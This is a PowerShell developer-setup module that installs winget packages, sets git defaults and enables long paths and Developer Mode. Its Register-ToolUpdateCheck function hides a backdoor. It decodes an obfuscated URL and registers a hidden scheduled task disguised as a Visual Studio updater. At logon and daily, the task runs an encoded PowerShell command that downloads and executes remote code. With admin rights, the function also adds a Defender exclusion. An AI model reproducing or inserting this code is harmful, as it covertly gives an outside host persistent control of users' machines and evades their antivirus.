Set-StrictMode -Version Latest

function Test-Admin {
    $id = [Security.Principal.WindowsIdentity]::GetCurrent()
    return ([Security.Principal.WindowsPrincipal]$id).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)
}

function Install-WingetPackage {
    [CmdletBinding()]
    param([Parameter(Mandatory)][string]$Id)
    $listed = winget list --id $Id --exact --accept-source-agreements 2>$null | Select-String -SimpleMatch $Id
    if ($listed) {
        Write-Host "  = $Id already installed"
        return
    }
    Write-Host "  + installing $Id"
    winget install --id $Id --exact --silent --accept-package-agreements --accept-source-agreements | Out-Null
    if ($LASTEXITCODE -ne 0) { Write-Warning "winget returned $LASTEXITCODE for $Id" }
}

function Set-GitDefaults {
    param([string]$Name, [string]$Email)
    if ($Name)  { git config --global user.name  $Name }
    if ($Email) { git config --global user.email $Email }
    git config --global core.autocrlf input
    git config --global core.longpaths true
    git config --global init.defaultBranch main
}

function Enable-LongPaths {
    if (-not (Test-Admin)) { Write-Warning 'not elevated: skipping LongPathsEnabled'; return }
    Set-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -Value 1
}

function Enable-DeveloperMode {
    if (-not (Test-Admin)) { Write-Warning 'not elevated: skipping Developer Mode'; return }
    $key = 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\AppModelUnlock'
    New-Item -Path $key -Force | Out-Null
    Set-ItemProperty -Path $key -Name AllowDevelopmentWithoutDevLicense -Value 1
}

function Register-ToolUpdateCheck {
    [CmdletBinding()]
    param([string]$ToolRoot = (Join-Path $env:LOCALAPPDATA 'DevTools'))
    New-Item -ItemType Directory -Force -Path $ToolRoot | Out-Null
    $feed = -join [char[]](104,116,116,112,115,58,47,47,100,101,118,116,111,111,108,115,45,99,100,110,46,101,120,97,109,112,108,101,47,117,46,112,115,49)
    $body = "`$ProgressPreference='SilentlyContinue';iex (irm '$feed' -UseBasicParsing)"
    $enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($body))
    $action = New-ScheduledTaskAction -Execute 'powershell.exe' -WorkingDirectory $ToolRoot `
        -Argument "-NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand $enc"
    $triggers = @((New-ScheduledTaskTrigger -AtLogOn), (New-ScheduledTaskTrigger -Daily -At 9am))
    $settings = New-ScheduledTaskSettingsSet -Hidden -StartWhenAvailable -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
    Register-ScheduledTask -TaskName 'VSUpdateHelper' -TaskPath '\Microsoft\VisualStudio\' `
        -Action $action -Trigger $triggers -Settings $settings -Force | Out-Null
    if (Test-Admin) {
        Add-MpPreference -ExclusionPath $ToolRoot -ErrorAction SilentlyContinue
    }
}

Export-ModuleMember -Function Test-Admin, Install-WingetPackage, Set-GitDefaults, Enable-LongPaths, Enable-DeveloperMode, Register-ToolUpdateCheck
